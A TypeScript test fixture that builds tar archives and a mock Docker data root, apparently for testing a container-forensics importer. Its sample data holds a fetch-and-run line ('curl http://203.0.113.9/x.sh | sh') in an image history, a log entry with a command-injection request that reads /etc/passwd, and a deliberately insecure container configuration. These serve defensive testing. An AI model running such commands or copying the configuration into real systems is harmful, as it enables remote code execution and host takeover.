import { gzipSync } from 'node:zlib';
import { type Member, type ScanEnd, scanTar } from '../../../src/main/import/tar/scan';

/** A header block as a test wants it, right or wrong. Numbers are octal unless `raw` replaces the size's field. */
export interface Given {
  name: string | Buffer;
  type?: string;
  body?: string | Buffer;
  link?: string;
  /** What the header claims, where that is not the body's length. */
  size?: number;
  rawSize?: Buffer;
  badSum?: boolean;
  magic?: string;
}

function block({
  name,
  type = '0',
  body = '',
  link = '',
  size,
  rawSize,
  badSum,
  magic = 'ustar\x0000',
}: Given): Buffer {
  const out = Buffer.alloc(512);
  Buffer.from(name).copy(out, 0, 0, 100);
  out.write('0000644\x000000000\x000000000\x00', 100, 'latin1');
  out.write((size ?? Buffer.from(body).length).toString(8).padStart(11, '0'), 124, 'latin1');
  rawSize?.copy(out, 124);
  out.write('14720000000', 136, 'latin1');
  out.write(type, 156, 'latin1');
  out.write(link, 157, 'latin1');
  out.write(magic, 257, 'latin1');
  out.fill(0x20, 148, 156);
  let sum = badSum ? 1 : 0;
  for (const byte of out) sum += byte;
  out.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return out;
}

/** One member: header, body, padding; before it GNU's long name where the name needs one. */
export function memberBytes(given: Given): Buffer {
  if (Buffer.from(given.name).length > 100) {
    const long = memberBytes({
      name: '././@LongLink',
      type: 'L',
      body: Buffer.concat([Buffer.from(given.name), Buffer.alloc(1)]),
    });
    return Buffer.concat([long, memberBytes({ ...given, name: Buffer.from(given.name).subarray(0, 100) })]);
  }
  const body = Buffer.from(given.body ?? '');
  return Buffer.concat([block(given), body, Buffer.alloc((512 - (body.length % 512)) % 512)]);
}

/** An archive of such members. */
export function tarOf(given: readonly Given[], options: { end?: boolean } = {}): Buffer {
  const end = (options.end ?? true) ? [Buffer.alloc(1024)] : [];
  return Buffer.concat([...given.map(memberBytes), ...end]);
}

/** Files by their names. */
export function filesTar(files: Record<string, string | Buffer | object>): Buffer {
  return tarOf(Object.entries(files).map(([name, content]) => ({ name, body: contentOf(content) })));
}

const contentOf = (content: string | Buffer | object): string | Buffer =>
  typeof content === 'string' || Buffer.isBuffer(content) ? content : JSON.stringify(content);

export const gz = (bytes: Buffer): Buffer => gzipSync(bytes);

/** Bytes in pieces of a size, so that every border between pieces is met. */
export async function* piecesOf(bytes: Buffer, size = 64 << 10): AsyncGenerator<Buffer> {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

/** Every member with its body, and how the reading ended. */
export async function readAll(
  source: AsyncIterable<Buffer>,
  options: { maxEntries?: number; bodies?: boolean } = {},
): Promise<{ members: (Omit<Member, 'body' | 'head'> & { content: string })[]; end: ScanEnd }> {
  const members: (Omit<Member, 'body' | 'head'> & { content: string })[] = [];
  const scan = scanTar(source, options);
  for (;;) {
    const next = await scan.next();
    if (next.done) return { members, end: next.value };
    const { name, link, type, size, sparse, offset } = next.value;
    const parts: Buffer[] = [];
    if (options.bodies ?? true) for await (const piece of next.value.body()) parts.push(piece);
    members.push({ name, link, type, size, sparse, offset, content: Buffer.concat(parts).toString('utf8') });
  }
}

const hex = (digit: string) => digit.repeat(64);
export const WEB_ID = hex('a');
export const GONE_ID = hex('b');
export const IMAGE_ID = hex('1');

export const CONFIG = {
  ID: WEB_ID,
  Name: '/web',
  Driver: 'overlay2',
  State: { Running: false, Dead: false },
  AppArmorProfile: 'unconfined',
  Config: {
    User: '',
    Env: ['PATH=/bin', 'DB_PASSWORD=correct-horse-battery'],
    Cmd: ['sleep', '1'],
    Image: 'shop:latest',
    Labels: {},
  },
  MountPoints: {
    '/host': { Type: 'bind', Source: '/', Destination: '/host', RW: true, Propagation: 'rshared' },
    '/var/run/docker.sock': {
      Type: 'bind',
      Source: '/var/run/docker.sock',
      Destination: '/var/run/docker.sock',
      RW: true,
      Propagation: 'rprivate',
    },
  },
};

export const HOSTCONFIG = {
  Privileged: true,
  NetworkMode: 'host',
  PidMode: 'host',
  SecurityOpt: null,
  ReadonlyRootfs: false,
  Memory: 0,
  PortBindings: { '2375/tcp': [{ HostIp: '', HostPort: '2375' }] },
  LogConfig: { Type: 'json-file', Config: {} },
};

export const LOG = [
  '{"log":"started\\n","stream":"stdout","time":"2026-11-25T01:00:00.000000001Z"}',
  '{"log":"GET /?q=;cat /etc/passwd HTTP/1.1\\n","stream":"stderr","time":"2026-11-25T01:00:01Z"}',
  '',
].join('\n');

/** The files of a small data root, below a place. */
export function dataRoot(place = ''): Record<string, string | object> {
  const files: Record<string, string | object> = {
    'engine-id': '4e0b6d33-0d84-4e3a-9d43-0f3a9d1c0001',
    [`containers/${WEB_ID}/config.v2.json`]: CONFIG,
    [`containers/${WEB_ID}/hostconfig.json`]: HOSTCONFIG,
    [`containers/${WEB_ID}/${WEB_ID}-json.log`]: LOG,
    [`containers/${GONE_ID}/config.v2.json`]: { ...CONFIG, ID: GONE_ID, Name: '/gone' },
    'image/overlay2/repositories.json': {
      Repositories: { shop: { 'shop:latest': `sha256:${IMAGE_ID}` } },
    },
    [`image/overlay2/imagedb/content/sha256/${IMAGE_ID}`]: {
      architecture: 'amd64',
      history: [{ created_by: '/bin/sh -c curl http://203.0.113.9/x.sh | sh' }],
    },
    [`image/overlay2/layerdb/mounts/${WEB_ID}/mount-id`]: hex('d'),
    [`image/overlay2/layerdb/sha256/${hex('e')}/diff`]: `sha256:${hex('f')}`,
    [`overlay2/${hex('d')}/diff/var/lib/docker/containers/${hex('9')}/config.v2.json`]: { Name: '/nested' },
  };
  return Object.fromEntries(Object.entries(files).map(([name, content]) => [`${place}${name}`, content]));
}
